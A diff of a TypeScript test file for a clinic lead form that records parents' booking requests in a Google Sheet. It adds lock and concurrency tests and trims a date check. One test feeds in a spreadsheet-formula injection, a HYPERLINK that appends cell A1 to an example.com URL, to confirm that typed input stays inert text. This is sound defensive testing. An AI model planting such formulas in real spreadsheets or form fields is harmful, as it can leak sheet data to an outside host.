@@ -1,5 +1,6 @@
 import { booking, cells, deskHeader, google, header } from "./clinic.fixture";
-import { leadHeader, paste, post, receivedAt, rows } from "./clinic.fixture";
+import { install, leadHeader, paste, post } from "./clinic.fixture";
+import { receivedAt, recordCalls, rows, script } from "./clinic.fixture";
 import { setUp, tab, thanks } from "./clinic.fixture";
 import { leadForms } from "./lead.js";
 import { sampleLeads } from "./leads.fixture.js";
@@ -116,23 +117,16 @@ test.each<[string, string[][], string[][]]>([
   expect(google.mails).toHaveLength(1);
 });
 
-test("in a sheet of any country, what a parent typed is text: a leading zero, a day, and a formula that does not run", () => {
-  const sheet = Object.assign(paste(), { isAmerican: true });
+test("what a parent typed is text: a leading zero, and a formula that does not run", () => {
   const typed = {
     ...booking,
     parentName: '=HYPERLINK("http://example.com/?"&A1,"x")',
     phoneNumber: "09876543210",
-    serviceRequest: "2019-08-24",
   };
-  setUp();
 
   post(typed);
 
   expect(rows()).toEqual([[...Object.values(typed), receivedAt, ...desk]]);
-  // What people type is read as in India, with the day first; the date to act again has a format.
-  expect(google.locales).toEqual({ [google.address]: "en_IN" });
-  sheet.getRange(2, header.indexOf("next") + 1).setValue("2027-01-12");
-  expect(cells("next")).toEqual(["2027-01-12"]);
 });
 
 describe("the same request", () => {
@@ -180,3 +174,53 @@ test("of two simultaneous posts, equal ones become one row and different ones tw
   expect(cells("parentName")).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
   expect(google.mails).toHaveLength(3);
 });
+
+test.each<[string, () => void]>([
+  [
+    "an edit",
+    () => {
+      const range = google.book().getSheetByName("Booking")!.getRange(2, 1);
+      script.deskEdited({ ...google.triggerEvent("deskEdited"), range });
+    },
+  ],
+  [
+    "the morning mail",
+    () => {
+      google.now += 2 * 24 * 60 * minute;
+      script.sendMorningMail(google.triggerEvent("sendMorningMail"));
+    },
+  ],
+  [
+    "the list of old requests",
+    () => {
+      google.answerDialog = () => "no";
+      script.deleteOldLeads();
+    },
+  ],
+])(
+  "a request that comes during %s is one row, and a heading that was missing is there once",
+  (_, work) => {
+    const meera = { ...booking, parentName: "Meera" };
+    const someHeadings = [leadHeader.slice(0, 4), ravi.slice(0, 4)];
+    const noHeadings = [ravi.with(-1, receivedAt)];
+    for (const content of [someHeadings, [leadHeader, ravi], noHeadings])
+      for (let at = 1, calls = at; at <= calls; at += 1) {
+        install();
+        setUp();
+        paste(...content);
+        // While the lock is held, the post waits.
+        const recorded = recordCalls(at, () => google.locked || post(meera));
+
+        work();
+
+        calls = recorded.length;
+        expect(post(meera)).toBe(thanks);
+        const [names, ...leads] = tab().rows;
+        expect(names!.toSorted()).toEqual(header.toSorted());
+        const found = leads.map((cells) =>
+          Object.keys(meera).map((name) => cells[names!.indexOf(name)]),
+        );
+        expect(found).toEqual([expect.any(Array), Object.values(meera)]);
+      }
+  },
+);
